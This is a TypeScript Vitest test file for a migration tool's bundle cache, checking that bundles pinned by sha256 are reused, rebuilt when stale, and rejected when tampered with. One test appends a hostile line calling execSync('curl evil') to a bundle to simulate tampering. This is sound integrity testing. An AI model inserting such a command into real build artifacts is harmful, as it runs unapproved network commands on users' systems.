import { appendFile, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvePlan } from '../../agents/planning/index.js';
import { bundleKey, type BundlePins } from '../../agents/code-interpreter/index.js';
import { REPO_ROOT } from '../../agents/code-interpreter/bundle.js';
import { describeToPlan, openConnections, prepareProgram, type Connections } from '../../src/chain.js';
import { sha256 } from '../../src/core/artifacts/hash.js';
import type { MigrationPlan } from '../../src/core/artifacts/migration-plan.js';
import type { SchemaAnalysis } from '../../src/core/artifacts/schema-analysis.js';
import { storeBundlePins } from '../../src/store/bundle-pins.js';
import { RunStore } from '../../src/store/run-store.js';
import { createDatabasePair, runScript, type DatabasePair } from '../setup/seed-case.js';

const LEGACY = `CREATE TABLE ledger_entry (entry_no integer PRIMARY KEY, memo varchar(80) NOT NULL, amount_cents integer);
INSERT INTO ledger_entry VALUES (1, 'Rent', 120000), (2, '  stamps ', NULL), (3, 'Coffée', 450);`;
const TARGET = 'CREATE TABLE journal_lines (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, memo text NOT NULL, amount_cents integer);';

/**
 * `ferry run` reuses the bundle `ferry approve` (or an earlier run) built for exactly the same
 * program, but only when the bytes on disk hash to the sha256 the run store pinned; anything
 * else on disk is never run, and a bundle built from other inputs is built again.
 */
describe('a bundle built once, pinned in the run store', () => {
  let db: DatabasePair;
  let conn: Connections;
  let store: RunStore;
  let pins: BundlePins;
  let work: string;
  let plan: MigrationPlan;
  let analysis: SchemaAnalysis;

  beforeAll(async () => {
    db = await createDatabasePair('bundle_cache_', { legacy: (url) => runScript(url, LEGACY), target: (url) => runScript(url, TARGET) });
    conn = await openConnections(db.legacy.url, db.target.url);
    store = await RunStore.open(db.target.url);
    pins = storeBundlePins(store);
    work = await mkdtemp(join(tmpdir(), 'ferry-bundle-cache-'));
    const planned = await describeToPlan({ description: 'Migrate ledger_entry into journal_lines', conn });
    plan = approvePlan(planned.plan, 'test');
    analysis = planned.analysis;
  });
  afterAll(async () => {
    await store?.close();
    await conn?.close();
    await db?.drop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('builds and pins once; the next preparation of the same program reuses the pinned bytes without bundling', async () => {
    const dir = join(work, 'reuse');
    const lines: string[] = [];
    const first = await prepareProgram({ plan, analysis, dir, pins, say: (l) => lines.push(l) });
    expect(lines.join('\n')).toContain('bundled into one file');
    const bytes = await readFile(first.bundle.path);
    expect(sha256(bytes)).toBe(first.bundle.sha256);
    expect(first.script.bundle.sha256).toBe(first.bundle.sha256);
    const before = await stat(first.bundle.path);

    lines.length = 0;
    const second = await prepareProgram({ plan, analysis, dir, pins, say: (l) => lines.push(l) });
    expect(lines.join('\n')).toContain('the bundle built before, its sha256 as pinned');
    expect(second.bundle).toEqual(first.bundle);
    expect(second.script.bundle).toEqual(first.script.bundle);
    // Not rewritten: the same file, untouched.
    expect((await stat(second.bundle.path)).mtimeMs).toBe(before.mtimeMs);
  });

  it('refuses a tampered bundle on disk: it is never handed on, the approved program is bundled again and the person told', async () => {
    const dir = join(work, 'tampered');
    const first = await prepareProgram({ plan, analysis, dir, pins });
    await appendFile(first.bundle.path, '\nrequire("node:child_process").execSync("curl evil");\n');
    const tamperedSha = sha256(await readFile(first.bundle.path));
    const lines: string[] = [];
    const again = await prepareProgram({ plan, analysis, dir, pins, say: (l) => lines.push(l) });
    const said = lines.join('\n');
    expect(said).toContain(`is not the bundle ferry built and pinned for this program (sha256 ${tamperedSha}, pinned ${first.bundle.sha256})`);
    expect(said).toContain('bundled into one file');
    expect(again.bundle.sha256).toBe(first.bundle.sha256);
    const onDisk = await readFile(again.bundle.path, 'utf8');
    expect(sha256(Buffer.from(onDisk))).toBe(first.bundle.sha256);
    expect(onDisk).not.toContain('curl evil');
  });

  it('rebuilds a stale bundle: one pinned when a file it was built from (the harness, say) read otherwise', async () => {
    const dir = join(work, 'stale');
    const first = await prepareProgram({ plan, analysis, dir, pins });
    const recorded = JSON.parse(await readFile(join(dir, 'bundle-inputs.json'), 'utf8')) as { inputs: string[] };
    expect(recorded.inputs).toContain('sandbox/harness/harness.ts');
    // A stand-in for a harness file as it was at that build, listed among the bundle's inputs and pinned with it.
    const harnessFile = join(work, 'harness-part.ts');
    await writeFile(harnessFile, 'export const version = 1;\n');
    const inputs = [...recorded.inputs, relative(REPO_ROOT, harnessFile)];
    await writeFile(join(dir, 'bundle-inputs.json'), JSON.stringify({ inputs }));
    const input = { program: first.script.program, rowTypes: first.script.rowTypes, banner: (await readFile(first.bundle.path, 'utf8')).split('\n')[0]! };
    const oldKey = await bundleKey(input, inputs);
    expect(oldKey).not.toBeNull();
    await pins.pin(oldKey!, { sha256: first.bundle.sha256, bytes: first.bundle.bytes });
    const lines: string[] = [];
    await prepareProgram({ plan, analysis, dir, pins, say: (l) => lines.push(l) });
    expect(lines.join('\n')).toContain('the bundle built before');

    // The harness file changes: the key changes, no pin matches, the bundle is built again (no alarm: nothing was tampered with).
    await writeFile(harnessFile, 'export const version = 2;\n');
    expect(await bundleKey(input, inputs)).not.toBe(oldKey);
    lines.length = 0;
    const rebuilt = await prepareProgram({ plan, analysis, dir, pins, say: (l) => lines.push(l) });
    expect(lines.join('\n')).toContain('bundled into one file');
    expect(lines.join('\n')).not.toContain('⚠️');
    // The new build records its real inputs again.
    expect((JSON.parse(await readFile(join(dir, 'bundle-inputs.json'), 'utf8')) as { inputs: string[] }).inputs).toEqual(recorded.inputs);
    expect(rebuilt.bundle.sha256).toBe(first.bundle.sha256);
  });

  it('keys the pin by the program: another program, or another sandbox Node, is bundled afresh', async () => {
    const dir = join(work, 'other');
    const first = await prepareProgram({ plan, analysis, dir, pins });
    const lines: string[] = [];
    const for20 = await prepareProgram({ plan, analysis, dir, pins, nodeMajor: 20, say: (l) => lines.push(l) });
    expect(lines.join('\n')).toContain('bundled into one file');
    expect(for20.script.bundle.target).toBe('node20');
    // (The bytes may well be the same: nothing in this program needs down-levelling for 18.)
    expect(first.script.bundle.target).toBe('node18');
    // Without pins (no run store) nothing on disk is trusted: every preparation bundles.
    lines.length = 0;
    await prepareProgram({ plan, analysis, dir: join(work, 'nopins'), say: (l) => lines.push(l) });
    await prepareProgram({ plan, analysis, dir: join(work, 'nopins'), say: (l) => lines.push(l) });
    expect(lines.filter((l) => l.includes('bundled into one file'))).toHaveLength(2);
  });

  it('ignores a pin whose body is not a pin (a store row written by something else)', async () => {
    const dir = join(work, 'bad-pin');
    const first = await prepareProgram({ plan, analysis, dir, pins });
    const recorded = JSON.parse(await readFile(join(dir, 'bundle-inputs.json'), 'utf8')) as { inputs: string[] };
    const banner = (await readFile(first.bundle.path, 'utf8')).split('\n')[0]!;
    const key = await bundleKey({ program: first.script.program, rowTypes: first.script.rowTypes, banner, nodeMajor: 18 }, recorded.inputs);
    expect(await pins.pinned(key!)).toEqual({ sha256: first.bundle.sha256, bytes: first.bundle.bytes });
    await store.putArtifact('bundle_pin', { sha256: 'not a hash' }, `bundle-pin:${sha256('another key')}`);
    expect(await pins.pinned(sha256('another key'))).toBeNull();
  });
});
